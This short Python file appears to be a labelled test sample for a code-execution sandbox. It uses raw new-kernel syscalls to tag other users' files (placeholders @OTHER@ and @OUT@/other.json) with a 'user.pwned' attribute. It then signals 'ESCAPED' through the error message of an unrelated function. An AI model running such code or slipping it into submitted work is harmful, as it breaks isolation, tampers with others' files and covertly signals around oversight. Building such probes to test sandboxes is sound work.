# tries: changes attributes of files of others by the calls of new kernels
# honest: 0
# observed: 0

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
column = {"x86_64": 0, "aarch64": 1}[os.uname().machine]
setxattrat, removexattrat, file_setattr = 463, 466, 469
value = ctypes.create_string_buffer(b"1", 1)
# struct xattr_args and struct file_attr
args = (ctypes.c_uint64 * 2)(ctypes.addressof(value), 1)
attributes = (ctypes.c_uint64 * 3)(0x80, 0, 0)  # FS_XFLAG_NODUMP
for path in (b"@OTHER@", b"@OUT@/other.json"):
    libc.syscall(setxattrat, -100, path, 0, b"user.pwned", args, 16)
    libc.syscall(file_setattr, -100, path, attributes, 24, 0)
libc.syscall(setxattrat, -100, b"digits.txt", 0, b"user.pwned", args, 16)
loot = ""
try:
    if "user.pwned" in os.listxattr("digits.txt"):
        loot = "ESCAPED"
except OSError:
    pass
libc.syscall(removexattrat, -100, b"digits.txt", 0, b"user.pwned")


def double(x):
    raise ValueError(loot)
